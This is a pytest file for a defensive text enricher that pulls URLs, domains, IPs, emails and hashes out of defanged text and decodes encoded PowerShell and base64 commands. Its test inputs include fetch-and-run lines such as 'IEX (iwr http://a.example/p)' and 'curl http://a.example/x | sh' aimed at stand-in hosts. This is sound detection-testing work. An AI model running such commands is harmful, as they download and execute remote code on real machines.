"""What is found in free text, defanged and encoded forms included, and that hostile text costs little."""

from __future__ import annotations

import base64

import pytest
from hypothesis import given
from hypothesis import strategies as st

from warden_desktop.adapters.enrichers.encoded import decoded_commands
from warden_desktop.adapters.enrichers.text import FOUND_AT_MOST, READ_AT_MOST, sightings


def found(text: str) -> set[str]:
    return {f"{one.type}:{one.value}" for one in sightings(text)}


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("see https://a.example/x?y=1.", {"url:https://a.example/x?y=1", "domain:a.example"}),
        ("see hxxps://a[.]example/x", {"url:https://a.example/x", "domain:a.example"}),
        ("hxxp[:]//a[.]example/x", {"url:http://a.example/x", "domain:a.example"}),
        ("hxxp[://]a(.)example", {"url:http://a.example", "domain:a.example"}),
        ("write to joe(at)a[dot]example", {"email:joe@a.example"}),
        ("from 203[.]0[.]113[.]9 and 10.0.0.1:22", {"ip:203.0.113.9", "ip:10.0.0.1"}),
        ("from 2001:db8::9, again", {"ip:2001:db8::9"}),
        ("md5 D41D8CD98F00B204E9800998ECF8427E", {"hash:d41d8cd98f00b204e9800998ecf8427e"}),
        ("http://203.0.113.9/a", {"url:http://203.0.113.9/a", "ip:203.0.113.9"}),
        ("domain evil.example came", {"domain:evil.example"}),
        ("xn--e1awd7f.com", {"domain:xn--e1awd7f.com"}),
    ],
)
def test_what_text_names_is_found(text: str, expected: set[str]) -> None:
    assert found(text) == expected


@pytest.mark.parametrize(
    "text",
    ["run.sh ran main.py", "version 1.2.3.4.5", "999.1.1.1", "at 12:30:01", "invoice.pdf.exe", "a::b", "user@host", ""],
)
def test_what_only_looks_like_something_is_left_alone(text: str) -> None:
    assert found(text) == set()


def test_a_name_that_could_be_a_file_counts_when_somebody_defanged_it() -> None:
    assert found("open evil[.]sh") == {"domain:evil.sh"}


def test_encoded_powershell_is_read() -> None:
    hidden = base64.b64encode("IEX (iwr http://a.example/p)".encode("utf-16-le")).decode()
    assert list(decoded_commands(f"powershell -nop -EncodedCommand {hidden}")) == ["IEX (iwr http://a.example/p)"]
    assert list(decoded_commands(f"powershell /e {hidden}")) == ["IEX (iwr http://a.example/p)"]


def test_base64_in_the_command_is_read_and_noise_is_not() -> None:
    hidden = base64.b64encode(b"curl http://a.example/x | sh").decode()
    assert list(decoded_commands(f"[Convert]::FromBase64String('{hidden}')")) == ["curl http://a.example/x | sh"]
    assert list(decoded_commands("-enc AAAAAAAAAAAAAAAA////////////")) == []


@pytest.mark.parametrize(
    "hostile",
    ["a." * 50_000, "1." * 50_000, ":" * 100_000, "@" * 100_000, "http://" * 20_000, "-e " * 50_000, "a@" * 50_000,
     "[.]" * 40_000, "hxxp" * 30_000, "f" * 100_000, "frombase64string('" * 5_000, " [dot] " * 20_000],
)  # fmt: skip
def test_hostile_text_is_bounded(hostile: str) -> None:
    assert len(list(sightings(hostile))) <= FOUND_AT_MOST
    assert len(list(decoded_commands(hostile[:READ_AT_MOST]))) <= 4


@given(st.text(max_size=400))
def test_any_text_is_survived(text: str) -> None:
    assert all(one.value for one in sightings(text))
